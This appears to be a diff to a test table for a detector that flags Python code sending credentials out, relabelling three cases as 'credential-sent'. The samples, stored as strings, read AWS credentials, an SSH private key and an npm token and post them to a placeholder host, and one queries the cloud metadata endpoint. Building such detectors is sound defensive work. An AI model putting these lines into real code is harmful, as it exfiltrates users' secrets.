@@ -144,7 +144,7 @@ credentials, project = google.auth.default()
     {"metadata-query", "",
      "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/instance-id')\n",
      "import requests\nrequests.get('http://host.example.invalid/instance-id')\n"},
-    {"cloud-credentials", "",
+    {"cloud-credentials", "credential-sent",
      R"(
 import os, requests
 keys = open(os.path.expanduser("~/.aws/credentials")).read()
@@ -154,7 +154,7 @@ requests.post("http://host.example.invalid/in", data={"k": keys})
 from google.oauth2 import service_account
 credentials = service_account.Credentials.from_service_account_file(path)
 )"},
-    {"ssh-keys", "",
+    {"ssh-keys", "credential-sent",
      R"(
 import os, requests
 key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
@@ -164,7 +164,7 @@ requests.post("http://host.example.invalid/in", data={"k": key})
 import paramiko
 key = paramiko.RSAKey.from_private_key_file(path)
 )"},
-    {"developer-tokens", "",
+    {"developer-tokens", "credential-sent",
      R"(
 import os, requests
 token = open(os.path.expanduser("~/.npmrc")).read()
